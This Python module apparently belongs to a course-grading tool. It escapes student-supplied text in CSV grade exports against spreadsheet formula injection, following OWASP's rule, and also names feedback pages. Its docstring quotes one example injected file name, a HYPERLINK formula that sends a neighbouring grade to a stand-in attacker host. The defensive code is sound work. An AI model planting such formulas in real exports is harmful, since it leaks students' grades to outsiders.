"""Cells of the CSV files the course writes (grades, Moodle's worksheet, Canvas's gradebook) that a
student's text cannot make act when the teacher opens them in a spreadsheet.

A file name such as `=HYPERLINK("http://evil.example?"&B2,"details").ipynb` would otherwise reach a
cell verbatim, and a spreadsheet evaluates it: the neighbouring grade goes anywhere. Every cell the
course fills from a student's data (a name, a file name, notes) goes through `inert_cell`
(OWASP's rule: a leading single quote before `=`, `+`, `-`, `@`, tab or CR, and the cell quoted);
the course's own numbers and the cells Moodle wrote stay as they are.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_STARTS", "csv_line", "feedback_page_names", "inert_cell", "spreadsheet_field"]

#: A spreadsheet reads a cell that starts with one of these as a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(text: str) -> str:
    """`text` as a cell a spreadsheet shows and never evaluates: one that starts like a formula
    (`FORMULA_STARTS`; `=HYPERLINK(...)` would send its neighbour's grade anywhere) gets a single
    quote in front (OWASP's rule). For every cell the course fills from a student's data."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def spreadsheet_field(text: str, from_student: bool = False) -> str:
    """`text` as one CSV field (RFC 4180): a cell from a student's data is made inert (`inert_cell`)
    and always quoted; another is quoted only where it must be (a comma, a quote, a line break)."""
    if from_student:
        return '"' + inert_cell(text).replace('"', '""') + '"'
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text


def csv_line(cells: Sequence[str], student: Iterable[int] = ()) -> str:
    """One CSV record, ended as Python's `csv.writer` ends one ("\\r\\n"); the fields at the indices
    `student` hold a student's text (a name, a file name, notes) and are made inert (`spreadsheet_field`)."""
    theirs = set(student)
    return ",".join(spreadsheet_field(c, k in theirs) for k, c in enumerate(cells)) + "\r\n"


def feedback_page_names(students: Sequence[str]) -> list[str]:
    """Each row's feedback page, for rows of `students` in order: `<student>.html`, or for a student
    with several notebooks in one assignment `<student>.pages/<k>.html`, so that no page replaces another."""
    count: dict[str, int] = {}
    for s in students:
        count[s] = count.get(s, 0) + 1
    seen: dict[str, int] = {}
    names = []
    for s in students:
        seen[s] = seen.get(s, 0) + 1
        names.append(f"{s}.html" if count[s] == 1 else f"{s}.pages/{seen[s]}.html")
    return names
